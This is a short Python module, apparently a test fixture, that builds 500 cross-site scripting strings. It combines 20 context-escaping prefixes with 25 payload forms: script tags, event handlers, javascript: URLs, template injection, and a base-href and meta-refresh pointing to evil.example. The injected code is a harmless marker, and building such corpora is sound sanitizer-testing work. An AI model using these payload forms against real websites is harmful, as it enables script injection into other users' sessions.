"""Five hundred texts that would run as code on a page that takes them for anything but text."""

from __future__ import annotations

RUN = "window.marker=1"
# What leaves the place where a page shows a text.
_OPENINGS = (
    "", '"', "'", '">', "'>", "`", "</textarea>", "</title>", "</select><option>", "<!--", "-->", "]]>",
    "</script>", "</style>", "\u2028", "&quot;>", "%22%3E", "{{", "</template>", "\u202e",
)  # fmt: skip
# What runs there.
_CODES = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>", f"<body onload={RUN}>",
    f" autofocus onfocus={RUN} x=", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>", f"javascript:{RUN}",
    f"<a href=javascript:{RUN}>x</a>", f"<form action=javascript:{RUN}><button>x</button></form>",
    f"data:text/html,<script>{RUN}</script>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<base href=//evil.example/><script src=x>{RUN}</script>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    f"<object data=javascript:{RUN}>", f"<style>@import 'javascript:{RUN}'</style>",
    f"<input autofocus onfocus={RUN}>",
    f"<ScRiPt>{RUN}</sCrIpT>", f"<img src=`x` onerror=`{RUN}`>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<link rel=stylesheet href=javascript:{RUN}>", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<marquee onstart={RUN}>x</marquee>", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
)  # fmt: skip
ATTACKS = [opening + code for opening in _OPENINGS for code in _CODES]
